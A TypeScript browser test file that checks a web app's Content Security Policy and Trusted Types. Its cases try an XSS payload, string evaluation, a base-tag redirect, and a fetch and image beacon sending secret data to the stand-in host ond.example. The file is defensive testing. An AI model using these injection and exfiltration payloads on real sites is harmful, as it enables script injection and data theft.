import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Provserver, nyServer } from '../stod/app';
import { nyOidcserver } from '../stod/oidc';
import { nySida, stangLasare } from '../stod/sida';

declare global {
  interface Window {
    /** The directives that the browser has refused something by. */
    avvisat: string[];
    trustedTypes: { createPolicy(namn: string, regler: object): { createScript(kod: string): string } };
  }
}

let server: Provserver;
beforeAll(async () => {
  server = await nyServer('tom');
});
afterAll(async () => {
  await stangLasare();
  await server.slapp();
});

/**
 * What the browser refused while `arbete` ran in the page, by directive, and what it returned. The browser writes each refusal to the
 * console, so the page's own faults are not asked for.
 */
async function iSidan(arbete: () => unknown): Promise<{ avvisat: string[]; svar: unknown }> {
  const { sida } = await nySida(server.bas);
  await sida.goto('/logga-in');
  await sida.locator('h1').first().waitFor();
  await sida.evaluate(() => {
    window.avvisat = [];
    document.addEventListener('securitypolicyviolation', (h) => window.avvisat.push(h.effectiveDirective));
  });
  const svar = await sida.evaluate(arbete);
  await sida.waitForTimeout(300);
  const avvisat = await sida.evaluate(() => window.avvisat);
  await sida.context().close();
  return { avvisat, svar };
}

describe('what somebody who has got text into the page cannot do', () => {
  it.each<[string, string, () => unknown]>([
    [
      'run a script in the page',
      'script-src-elem',
      () => {
        const skript = document.createElement('script');
        try {
          skript.textContent = window.trustedTypes
            .createPolicy('angular', { createScript: (s: string) => s })
            .createScript('document.title = "tagen"');
        } catch {
          skript.append('document.title = "tagen"');
        }
        document.body.append(skript);
        return document.title;
      },
    ],
    [
      'load a script from elsewhere',
      'require-trusted-types-for',
      () => {
        try {
          document.createElement('script').src = 'https://ond.example/x.js';
        } catch (fel) {
          return (fel as Error).name;
        }
        return 'inget fel';
      },
    ],
    [
      'make markup of a text',
      'require-trusted-types-for',
      () => {
        try {
          document.body.innerHTML = '<img src=x onerror=alert(1)>';
        } catch (fel) {
          return (fel as Error).name;
        }
        return 'inget fel';
      },
    ],
    [
      'evaluate a text',
      'require-trusted-types-for',
      () => {
        try {
          (window.setTimeout as (kod: string) => number)('document.title = "tagen"');
        } catch (fel) {
          return (fel as Error).name;
        }
        return 'inget fel';
      },
    ],
    [
      'style the page',
      'style-src-elem',
      () => {
        const stil = document.createElement('style');
        stil.textContent = 'body { display: none }';
        document.body.append(stil);
        return getComputedStyle(document.body).display === 'none' ? 'dold' : 'synlig';
      },
    ],
    [
      'style an element by its attribute',
      'style-src-attr',
      () => {
        document.body.setAttribute('style', 'display: none');
        return getComputedStyle(document.body).display === 'none' ? 'dold' : 'synlig';
      },
    ],
    [
      'move every relative address',
      'base-uri',
      () => {
        const bas = document.createElement('base');
        bas.href = 'https://ond.example/';
        document.head.append(bas);
        return new URL('x', document.baseURI).hostname === 'ond.example' ? 'flyttad' : 'kvar';
      },
    ],
    [
      'send a form elsewhere',
      'form-action',
      () => {
        const form = document.createElement('form');
        form.action = 'https://ond.example/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'show another page in it',
      'frame-src',
      () => {
        const ram = document.createElement('iframe');
        ram.src = 'https://ond.example/';
        document.body.append(ram);
      },
    ],
    [
      'send data elsewhere',
      'connect-src',
      async () =>
        fetch('https://ond.example/?d=hemligt').then(
          () => 'sänt',
          () => 'stoppat',
        ),
    ],
    [
      'send data elsewhere as an image',
      'img-src',
      () => {
        new Image().src = 'https://ond.example/?d=hemligt';
      },
    ],
  ])('%s', async (_, direktiv, arbete) => {
    const { avvisat, svar } = await iSidan(arbete);
    expect(avvisat).toContain(direktiv);
    expect(['tagen', 'dold', 'flyttad', 'sänt', 'inget fel', 2]).not.toContain(svar);
  });
});

describe('what the page itself needs', () => {
  it('its own styles and typeface', async () => {
    const { avvisat, svar } = await iSidan(async () => {
      await document.fonts.ready;
      return {
        sorter: [...document.fonts].some((f) => f.status === 'loaded'),
        stilar: document.querySelectorAll('style[nonce]').length > 0,
      };
    });
    expect({ avvisat, svar }).toEqual({ avvisat: [], svar: { sorter: true, stilar: true } });
  });

  it('to be led on to an identity provider elsewhere, and back', async () => {
    const oidc = await nyOidcserver();
    const { sida, stang } = await nySida(oidc.bas);
    await sida.goto('/logga-in?mal=%2Fanslag');
    await sida.getByRole('link', { name: 'Logga in', exact: true }).last().click();
    await sida.getByRole('button', { name: 'hanna' }).click();
    await sida.getByText('Hanna Handläggare').first().waitFor();
    expect(new URL(sida.url()).pathname).toBe('/anslag');
    await stang();
    await oidc.slapp();
  });

  it('to be shown by no other site', async () => {
    const annan = createServer((_, svar) =>
      svar.setHeader('content-type', 'text/html').end(`<iframe src="${server.bas}/"></iframe>`),
    ).listen(0, '127.0.0.1');
    await new Promise((klar) => annan.once('listening', klar));
    const { sida } = await nySida(`http://localhost:${(annan.address() as AddressInfo).port}`);
    await sida.goto('/');
    await sida.waitForTimeout(500);
    const ram = sida.frames()[1];
    expect(await ram?.locator('app-skal').count()).toBe(0);
    await sida.context().close();
    annan.closeAllConnections();
    await new Promise((klar) => annan.close(klar));
  });
});
